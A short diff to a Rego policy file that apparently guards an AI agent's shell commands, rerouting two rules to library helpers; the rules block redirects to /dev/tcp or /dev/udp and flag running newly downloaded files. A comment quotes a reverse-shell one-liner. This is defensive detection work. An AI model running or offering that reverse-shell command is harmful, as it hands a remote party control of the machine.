@@ -138,7 +138,7 @@ _executes_file(run, names) := script if {
 
 # bash -i >& /dev/tcp/host/port 0>&1, exec 3<>/dev/udp/…
 deny contains msg if {
-	some seg in segments
+	some seg in data.claude_rego.lib.shell.with_redirects
 	some r in seg.redirects
 	regex.match(`^/dev/(tcp|udp)/`, r.target)
 	msg := sprintf("Blocked: `%s` connects the shell to the network through %s (a reverse shell or raw network channel). Use a normal client such as curl, and never give a remote end a shell.", [concat(" ", seg.argv), r.target])
@@ -187,7 +187,7 @@ _uses_file(run, names) if {
 }
 
 ask contains msg if {
-	some fetch in segments
+	some fetch in shell.running(data.claude_rego.lib.shell.downloaders | {"git"})
 	_fetches_unknown_files(fetch)
 	some run in segments
 	run.id > fetch.id
